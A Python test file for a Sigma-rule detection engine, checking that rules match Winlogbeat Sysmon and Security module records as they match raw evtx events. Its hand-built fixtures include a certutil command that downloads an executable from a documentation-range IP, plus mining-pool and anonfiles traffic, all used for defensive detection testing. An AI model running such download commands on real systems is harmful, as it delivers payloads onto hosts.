"""Winlogbeat's Sysmon and Security modules: a rule's fields where the module scripts moved them.

winlogbeat-sysmon.js and winlogbeat-security.js rename event data to ECS fields and delete the
originals (Sysmon 1's Image is process.executable, 11's TargetFilename file.path, 4625's IpAddress
source.ip).  Read as raw Winlogbeat, those fields resolved to nothing and every SigmaHQ
process_creation, file_event, image_load, network_connection and dns_query rule missed in silence.
The events below are written by hand, as the scripts leave them (field by field from what the
scripts do), each beside the same event as ``evtx_dump`` renders it.
"""

import json
import os

import pytest
from hypothesis import given, strategies as st

import sigmahq
from clitools import records, run_cli
from pipeshell_filter.detect import Detector
from pipeshell_filter.events.fields import FieldResolver, builtin_profiles
from pipeshell_filter.sigma.compile import compile_plan
from pipeshell_filter.sigma.rule import parse_rule

PROFILES = builtin_profiles()
RESOLVER = FieldResolver(PROFILES)
SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSMON_PROVIDER = "Microsoft-Windows-Sysmon"
SECURITY = "Security"
SECURITY_PROVIDER = "Microsoft-Windows-Security-Auditing"
HOST = "ws01.corp.example"


def evtx(event_id, channel, provider, data):
    return {"Event": {"System": {"Provider": {"#attributes": {"Name": provider}}, "EventID": event_id,
                                 "TimeCreated": {"#attributes": {"SystemTime": "2026-04-17T04:14:33.653Z"}},
                                 "EventRecordID": 7, "Channel": channel, "Computer": HOST},
                      "EventData": data}}


def module(event_id, channel, provider, module_name, event_data, **ecs):
    """A Winlogbeat record after the module's script: ``ecs`` holds its ECS objects (``process``...).
    Winlogbeat 7 writes winlog.event_id as a number."""
    record = {"@timestamp": "2026-04-17T04:14:33.653Z",
              "event": {"code": str(event_id), "kind": "event", "module": module_name},
              "host": {"name": "wec01"},
              "winlog": {"channel": channel, "computer_name": HOST, "event_id": event_id,
                         "provider_name": provider, "record_id": 7, "user": {"identifier": "S-1-5-18"}}}
    if event_data:  # the Sysmon script deletes an emptied event_data
        record["winlog"]["event_data"] = event_data
    record.update(ecs)
    return record


def matches(rule_text: str, event: dict, resolver=RESOLVER) -> bool:
    plan = compile_plan(parse_rule(rule_text, "test.yml"))
    return bool(Detector([plan], resolver).detect(event))


def rule(logsource: str, selection: str) -> str:
    return f"title: t\nlogsource: {{{logsource}}}\ndetection:\n{selection}\n  condition: all of selection*\n"


CERTUTIL = "C:\\Windows\\System32\\certutil.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
CERTUTIL_LINE = "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
CLR = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll"
HASHES = "SHA1=A1B2,MD5=C3D4,SHA256=E5F6,IMPHASH=0A1B"

# (name, evtx record, module record, rules that match both): the module records hold what the
# script left: renamed fields under ECS, copied ones in both places, untouched ones in event_data.
CASES = [
    ("sysmon-1",
     evtx(1, SYSMON, SYSMON_PROVIDER, {
         "RuleName": "-", "UtcTime": "2026-04-17 04:14:33.653", "ProcessGuid": "{11111111-0000-0000-0000-000000000001}",
         "ProcessId": "4242", "Image": CERTUTIL, "FileVersion": "10.0", "Description": "CertUtil.exe",
         "Product": "Microsoft Windows", "Company": "Microsoft Corporation", "OriginalFileName": "CertUtil.exe",
         "CommandLine": CERTUTIL_LINE, "CurrentDirectory": "C:\\Users\\Public\\", "User": "NT AUTHORITY\\SYSTEM",
         "LogonGuid": "{11111111-0000-0000-0000-0000000003e7}", "LogonId": "0x3e7", "TerminalSessionId": "0",
         "IntegrityLevel": "System", "Hashes": HASHES, "ParentProcessGuid": "{11111111-0000-0000-0000-000000000002}",
         "ParentProcessId": "4000", "ParentImage": CMD, "ParentCommandLine": "cmd.exe /c run.bat",
         "ParentUser": "NT AUTHORITY\\SYSTEM"}),
     module(1, SYSMON, SYSMON_PROVIDER, "sysmon",
            {"FileVersion": "10.0", "Description": "CertUtil.exe", "Product": "Microsoft Windows",
             "Company": "Microsoft Corporation", "LogonGuid": "{11111111-0000-0000-0000-0000000003e7}",
             "LogonId": "0x3e7", "TerminalSessionId": "0", "IntegrityLevel": "System",
             "ParentUser": "NT AUTHORITY\\SYSTEM"},
            process={"entity_id": "{11111111-0000-0000-0000-000000000001}", "pid": 4242, "executable": CERTUTIL,
                     "name": "certutil.exe", "command_line": CERTUTIL_LINE,
                     "args": ["certutil.exe", "-urlcache", "-split", "-f", "http://203.0.113.9/a.exe",
                              "C:\\Users\\Public\\a.exe"],
                     "working_directory": "C:\\Users\\Public\\",
                     "pe": {"original_file_name": "CertUtil.exe", "company": "Microsoft Corporation",
                            "description": "CertUtil.exe", "file_version": "10.0", "product": "Microsoft Windows",
                            "imphash": "0a1b"},
                     "hash": {"sha1": "a1b2", "md5": "c3d4", "sha256": "e5f6"},
                     "parent": {"entity_id": "{11111111-0000-0000-0000-000000000002}", "pid": 4000,
                                "executable": CMD, "command_line": "cmd.exe /c run.bat", "name": "cmd.exe",
                                "args": ["cmd.exe", "/c", "run.bat"]}},
            user={"id": "S-1-5-18", "domain": "NT AUTHORITY", "name": "SYSTEM"},
            related={"user": ["SYSTEM"], "hash": ["a1b2", "c3d4", "e5f6", "0a1b"]}),
     [rule("category: process_creation, product: windows",
           "  selection_img:\n    - Image|endswith: '\\certutil.exe'\n    - OriginalFileName: 'CertUtil.exe'\n"
           "  selection_cli:\n    CommandLine|contains|all: ['urlcache', 'http']\n"
           "    ParentImage|endswith: '\\cmd.exe'\n    ParentCommandLine|contains: 'run.bat'\n"
           "    CurrentDirectory: 'C:\\Users\\Public\\'\n    User|contains: ['AUTHORI', 'AUTORI']\n"
           "    IntegrityLevel: System\n    ProcessId: 4242\n    ParentProcessId: 4000"),
      "windows/process_creation/proc_creation_win_certutil_download.yml"]),
    ("sysmon-3",
     evtx(3, SYSMON, SYSMON_PROVIDER, {
         "RuleName": "-", "UtcTime": "2026-04-17 04:14:33.653", "ProcessGuid": "{11111111-0000-0000-0000-000000000003}",
         "ProcessId": "5150", "Image": "C:\\Windows\\System32\\wuauclt.exe", "User": "CORP\\alice",
         "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.0.0.5",
         "SourceHostname": "ws01.corp.example", "SourcePort": "50123", "SourcePortName": "-",
         "DestinationIsIpv6": "false", "DestinationIp": "198.51.100.7", "DestinationHostname": "xmr.pool.minergate.com",
         "DestinationPort": "443", "DestinationPortName": "https"}),
     module(3, SYSMON, SYSMON_PROVIDER, "sysmon", {"SourcePortName": "-"},
            process={"entity_id": "{11111111-0000-0000-0000-000000000003}", "pid": 5150,
                     "executable": "C:\\Windows\\System32\\wuauclt.exe", "name": "wuauclt.exe"},
            user={"id": "S-1-5-18", "domain": "CORP", "name": "alice"},
            network={"transport": "tcp", "protocol": "https", "direction": "egress", "type": "ipv4",
                     "community_id": "1:AAAA"},
            source={"ip": "10.0.0.5", "domain": "ws01.corp.example", "port": 50123},
            destination={"ip": "198.51.100.7", "domain": "xmr.pool.minergate.com", "port": 443},
            related={"ip": ["10.0.0.5", "198.51.100.7"], "user": ["alice"]}),
     [rule("category: network_connection, product: windows",
           "  selection:\n    Image|endswith: '\\wuauclt.exe'\n    Protocol: tcp\n    SourceIp: 10.0.0.5\n"
           "    SourceHostname: ws01.corp.example\n    SourcePort: 50123\n    DestinationIp|cidr: '198.51.100.0/24'\n"
           "    DestinationHostname|endswith: '.minergate.com'\n    DestinationPort: 443\n"
           "    DestinationPortName: https\n    User|endswith: alice"),
      "windows/network_connection/net_connection_win_domain_crypto_mining_pools.yml"]),
    ("sysmon-7",
     evtx(7, SYSMON, SYSMON_PROVIDER, {
         "RuleName": "-", "UtcTime": "2026-04-17 04:14:33.653", "ProcessGuid": "{11111111-0000-0000-0000-000000000007}",
         "ProcessId": "6000", "Image": WORD, "ImageLoaded": CLR, "FileVersion": "4.8", "Description": "CLR",
         "Product": ".NET", "Company": "Microsoft Corporation", "OriginalFileName": "clr.dll", "Hashes": HASHES,
         "Signed": "true", "Signature": "Microsoft Corporation", "SignatureStatus": "Valid"}),
     module(7, SYSMON, SYSMON_PROVIDER, "sysmon",
            {"FileVersion": "4.8", "Description": "CLR", "Product": ".NET", "Company": "Microsoft Corporation",
             "Signed": "true", "Signature": "Microsoft Corporation", "SignatureStatus": "Valid"},
            process={"entity_id": "{11111111-0000-0000-0000-000000000007}", "pid": 6000, "executable": WORD,
                     "name": "WINWORD.EXE"},
            file={"path": CLR, "name": "clr.dll", "directory": "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319",
                  "extension": "dll", "code_signature": {"subject_name": "Microsoft Corporation", "status": "Valid",
                                                         "signed": True, "valid": True},
                  "pe": {"original_file_name": "clr.dll", "company": "Microsoft Corporation", "description": "CLR",
                         "file_version": "4.8", "product": ".NET", "imphash": "0a1b"},
                  "hash": {"sha1": "a1b2", "md5": "c3d4", "sha256": "e5f6"}}),
     [rule("category: image_load, product: windows",
           "  selection:\n    Image|endswith: '\\winword.exe'\n    ImageLoaded|endswith: '\\clr.dll'\n"
           "    OriginalFileName: clr.dll\n    Signed: 'true'\n    Signature: Microsoft Corporation"),
      "windows/image_load/image_load_office_dotnet_clr_dll_load.yml"]),
    ("sysmon-11",
     evtx(11, SYSMON, SYSMON_PROVIDER, {
         "RuleName": "-", "UtcTime": "2026-04-17 04:14:33.653", "ProcessGuid": "{11111111-0000-0000-0000-000000000011}",
         "ProcessId": "4", "Image": "System", "TargetFilename": "C:\\Windows\\csexecsvc.exe",
         "CreationUtcTime": "2026-04-17 04:14:33.650"}),
     module(11, SYSMON, SYSMON_PROVIDER, "sysmon", {"CreationUtcTime": "2026-04-17 04:14:33.650"},
            process={"entity_id": "{11111111-0000-0000-0000-000000000011}", "pid": 4, "executable": "System",
                     "name": "System"},
            file={"path": "C:\\Windows\\csexecsvc.exe", "name": "csexecsvc.exe", "directory": "C:\\Windows",
                  "extension": "exe"}),
     [rule("category: file_event, product: windows",
           "  selection:\n    Image: System\n    TargetFilename|endswith: '\\csexecsvc.exe'\n"
           "    ProcessGuid: '{11111111-0000-0000-0000-000000000011}'"),
      "windows/file/file_event/file_event_win_csexec_service.yml"]),
    ("sysmon-22",
     evtx(22, SYSMON, SYSMON_PROVIDER, {
         "RuleName": "-", "UtcTime": "2026-04-17 04:14:33.653", "ProcessGuid": "{11111111-0000-0000-0000-000000000022}",
         "ProcessId": "7000", "QueryName": "cdn.anonfiles.com", "QueryStatus": "0",
         "QueryResults": "::ffff:192.0.2.10;", "Image": "C:\\Users\\Public\\x.exe"}),
     module(22, SYSMON, SYSMON_PROVIDER, "sysmon", None,
            process={"entity_id": "{11111111-0000-0000-0000-000000000022}", "pid": 7000,
                     "executable": "C:\\Users\\Public\\x.exe", "name": "x.exe"},
            network={"protocol": "dns"},
            dns={"question": {"name": "cdn.anonfiles.com", "registered_domain": "anonfiles.com",
                              "subdomain": "cdn", "top_level_domain": "com"},
                 "answers": [{"type": "A", "data": "192.0.2.10"}], "resolved_ip": ["192.0.2.10"]},
            sysmon={"dns": {"status": "SUCCESS"}}),
     [rule("category: dns_query, product: windows",
           "  selection:\n    QueryName|endswith: '.anonfiles.com'\n    Image|startswith: 'C:\\Users\\Public\\'"),
      "windows/dns_query/dns_query_win_anonymfiles_com.yml"]),
    ("security-4688",
     evtx(4688, SECURITY, SECURITY_PROVIDER, {
         "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "SubjectDomainName": "CORP",
         "SubjectLogonId": "0x3e7", "NewProcessId": "0x1a2b", "NewProcessName": CERTUTIL,
         "TokenElevationType": "%%1936", "ProcessId": "0xfa0", "CommandLine": CERTUTIL_LINE,
         "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
         "ParentProcessName": CMD, "MandatoryLabel": "S-1-16-16384"}),
     module(4688, SECURITY, SECURITY_PROVIDER, "security", {
         "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "SubjectDomainName": "CORP",
         "SubjectLogonId": "0x3e7", "TokenElevationType": "%%1936", "ProcessId": "0xfa0",
         "CommandLine": CERTUTIL_LINE, "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-",
         "TargetLogonId": "0x0", "MandatoryLabel": "S-1-16-16384"},
            process={"pid": 6699, "executable": CERTUTIL, "name": "certutil.exe", "command_line": CERTUTIL_LINE,
                     "parent": {"executable": CMD, "name": "cmd.exe"}},
            user={"id": "S-1-5-18", "name": "WS01$", "domain": "CORP"}),
     [rule("category: process_creation, product: windows",
           "  selection:\n    Image|endswith: '\\certutil.exe'\n    ParentImage|endswith: '\\cmd.exe'\n"
           "    CommandLine|contains: urlcache\n    SubjectUserName: WS01$\n    ProcessId: '0xfa0'"),
      rule("product: windows, service: security",
           "  selection:\n    EventID: 4688\n    NewProcessName|endswith: '\\certutil.exe'\n"
           "    ParentProcessName|endswith: '\\cmd.exe'")]),
    ("security-4624",
     evtx(4624, SECURITY, SECURITY_PROVIDER, {
         "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "SubjectDomainName": "CORP",
         "SubjectLogonId": "0x3e7", "TargetUserSid": "S-1-5-21-1-1001", "TargetUserName": "alice",
         "TargetDomainName": "CORP", "TargetLogonId": "0x8f1a2", "LogonType": "10", "LogonProcessName": "User32",
         "AuthenticationPackageName": "Negotiate", "WorkstationName": "WS01", "ProcessId": "0x2b4",
         "ProcessName": "C:\\Windows\\System32\\svchost.exe", "IpAddress": "127.0.0.1", "IpPort": "0"}),
     module(4624, SECURITY, SECURITY_PROVIDER, "security", {
         "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "SubjectDomainName": "CORP",
         "SubjectLogonId": "0x3e7", "TargetUserSid": "S-1-5-21-1-1001", "TargetUserName": "alice",
         "TargetDomainName": "CORP", "TargetLogonId": "0x8f1a2", "LogonType": "10", "LogonProcessName": "User32",
         "AuthenticationPackageName": "Negotiate"},
            process={"pid": 692, "executable": "C:\\Windows\\System32\\svchost.exe", "name": "svchost.exe"},
            source={"ip": "127.0.0.1", "port": 0, "domain": "WS01"},
            user={"id": "S-1-5-21-1-1001", "name": "alice", "domain": "CORP"},
            related={"user": ["alice", "WS01$"]}),
     [rule("product: windows, service: security",
           "  selection:\n    EventID: 4624\n    LogonType: 10\n    IpAddress: ['::1', '127.0.0.1']\n"
           "    IpPort: 0\n    WorkstationName: WS01\n    ProcessName|endswith: '\\svchost.exe'\n"
           "    TargetUserName: alice"),
      "windows/builtin/security/account_management/win_security_rdp_localhost_login.yml"]),
    ("security-4625",
     evtx(4625, SECURITY, SECURITY_PROVIDER, {
         "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
         "TargetUserSid": "S-1-0-0", "TargetUserName": "administrator", "TargetDomainName": "CORP",
         "Status": "0xc000006d", "FailureReason": "%%2313", "SubStatus": "0xc000006a", "LogonType": "3",
         "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM", "WorkstationName": "KALIBOX0123456AB",
         "ProcessId": "0x0", "ProcessName": "-", "IpAddress": "203.0.113.50", "IpPort": "49152"}),
     module(4625, SECURITY, SECURITY_PROVIDER, "security", {
         "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
         "TargetUserSid": "S-1-0-0", "TargetUserName": "administrator", "TargetDomainName": "CORP",
         "Status": "0xc000006d",
         "FailureReason": "%%2313", "SubStatus": "0xc000006a", "LogonType": "3", "LogonProcessName": "NtLmSsp ",
         "AuthenticationPackageName": "NTLM"},
            process={"pid": 0, "executable": "-", "name": "-"},
            source={"ip": "203.0.113.50", "port": 49152, "domain": "KALIBOX0123456AB"},
            user={"id": "S-1-0-0", "name": "administrator", "domain": "CORP"}),
     ["windows/builtin/security/account_management/win_security_susp_failed_logon_source.yml",
      "windows/builtin/security/win_security_metasploit_authentication.yml",
      rule("product: windows, service: security",
           "  selection:\n    EventID: 4625\n    IpAddress|cidr: '203.0.113.0/24'\n    IpPort: 49152\n"
           "    ProcessName: '-'")]),
]


def _rule_text(spec: str) -> str:
    if "\n" in spec:
        return spec
    path = os.path.join(sigmahq.SIGMAHQ, "rules", spec)
    if not os.path.isfile(path):
        pytest.skip(f"SigmaHQ rule {spec} not available")
    with open(path, encoding="utf-8") as handle:
        return handle.read()


RULE_CASES = [pytest.param(raw, done, spec, id=f"{name}:{spec.split('/')[-1] if spec.endswith('.yml') else i}")
              for name, raw, done, specs in CASES for i, spec in enumerate(specs)]


def test_module_records_are_read_through_the_modules_profile():
    for name, raw, done, _ in CASES:
        assert RESOLVER.profile_for(raw).name == "evtx"
        assert RESOLVER.profile_for(done).name == "winlogbeat-modules", name


@pytest.mark.parametrize("raw, done, spec", RULE_CASES)
def test_a_rule_matches_the_module_record_as_the_evtx_one(raw, done, spec):
    text = _rule_text(spec)
    assert matches(text, raw)
    assert matches(text, done)


@pytest.mark.parametrize("raw, done, spec", [c for c in RULE_CASES if "failed_logon_source" not in c.values[2]])
def test_read_as_raw_winlogbeat_the_module_record_missed(raw, done, spec):
    """The bug: through the raw profile the moved fields are absent, and the rule missed in silence.
    (Not the failed-logon rule: its IpAddress is only in filters, so it matched, on every 4625.)"""
    raw_only = FieldResolver(PROFILES, fixed="winlogbeat")
    assert not matches(_rule_text(spec), done, raw_only)


# ------------------------------------------------------------------ what cannot be restored


def test_what_the_scripts_transform_is_documented_as_lost():
    sysmon1 = RESOLVER.view(CASES[0][2])
    assert sysmon1.get("Hashes") is sysmon1.get("Imphash") is not None  # both MISSING
    assert not matches(rule("category: process_creation, product: windows",
                            "  selection:\n    Hashes|contains: 'IMPHASH=0A1B'"), CASES[0][2])
    sysmon3 = RESOLVER.view(CASES[1][2])
    assert not sysmon3.leaves("Initiated") and not sysmon3.leaves("SourceIsIpv6")
    sysmon22 = RESOLVER.view(CASES[4][2])
    assert not sysmon22.leaves("QueryResults") and not sysmon22.leaves("QueryStatus")
    # Security's hexadecimal process ids are decimal numbers after the script (0x2b4 is 692)
    assert RESOLVER.view(CASES[6][2]).leaves("ProcessId") == ("692",)
    # User: the user object; its leaves are the domain, the name and the event's own SID
    assert sysmon1.leaves("User") == ("S-1-5-18", "NT AUTHORITY", "SYSTEM")
    assert not matches(rule("category: process_creation, product: windows",
                            "  selection:\n    User|endswith: '\\SYSTEM'"), CASES[0][2])


# ------------------------------------------------------------------ raw events keep their resolution


def test_the_modules_profile_extends_raw_winlogbeat():
    """Same roots, time, channel and product; each raw field's candidates come first, unchanged."""
    by_name = {p.name: p for p in PROFILES}
    raw, mod = by_name["winlogbeat"], by_name["winlogbeat-modules"]
    assert (mod.roots, mod.time, mod.channel, mod.product) == (raw.roots, raw.time, raw.channel, raw.product)
    for field, candidates in raw.fields.items():
        assert mod.fields[field] == candidates
    for field, candidates in mod.fields.items():
        if field not in raw.fields:  # a moved field: its original first, for every event
            assert candidates[0].path == ("winlog", "event_data", field) and candidates[0].event_ids is None
            assert all(c.event_ids for c in candidates[1:])


RAW_VALUES = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=12)


@given(st.sampled_from([c for c in CASES if c[0].startswith(("sysmon", "security"))]), st.data())
def test_a_record_with_its_event_data_resolves_as_raw_winlogbeat(case, data):
    """With the originals present (no script ran, or a conversion failed and left them), a record
    that has event.module resolves every field as the raw profile does."""
    _, raw, done, _ = case
    event_data = {k: data.draw(RAW_VALUES) for k in raw["Event"]["EventData"]}
    record = json.loads(json.dumps(done))
    record["winlog"]["event_data"] = event_data
    bare = json.loads(json.dumps(record))
    del bare["event"]["module"]
    with_module, without = RESOLVER.view(record), RESOLVER.view(bare)
    assert without.profile.name == "winlogbeat"
    for field in set(event_data) | set(with_module.profile.fields) - {"Data", "EventData"}:
        assert with_module.leaves(field) == without.leaves(field), field


@pytest.mark.parametrize("name, raw, done", [(c[0], c[1], c[2]) for c in CASES])
def test_each_moved_field_resolves_to_its_evtx_value(name, raw, done):
    """Every field the profile moves, and every original the script left, reads as in the evtx record
    (numbers the script converted compare as the text a rule sees; Security's hex ids excepted)."""
    evtx_view, module_view = RESOLVER.view(raw), RESOLVER.view(done)
    lost = {"Hashes", "Initiated", "SourceIsIpv6", "DestinationIsIpv6", "QueryResults", "QueryStatus", "RuleName",
            "UtcTime", "User"}
    hex_ids = {"ProcessId", "NewProcessId"} if name.startswith("security") else set()
    for field in raw["Event"]["EventData"]:
        if field in lost or field in hex_ids:
            continue
        assert module_view.leaves(field) == evtx_view.leaves(field), (name, field)


def test_a_module_stream_through_the_cli(tmp_path):
    """End to end, prefilter included: the moved values are in the line as written, so it lets them in."""
    rule_file = tmp_path / "certutil.yml"
    rule_file.write_text(CASES[0][3][0])
    lines = b"".join(json.dumps(c[2]).encode() + b"\n" for c in CASES)
    result = run_cli(["--rule", str(rule_file), "--emit", "matches"], lines)
    assert result.returncode == 0, result.stderr
    matched = [r for r in records(result.stdout) if r.get("event", {}).get("kind") != "alert"]
    assert [r["winlog"]["event_id"] for r in matched] == [1]
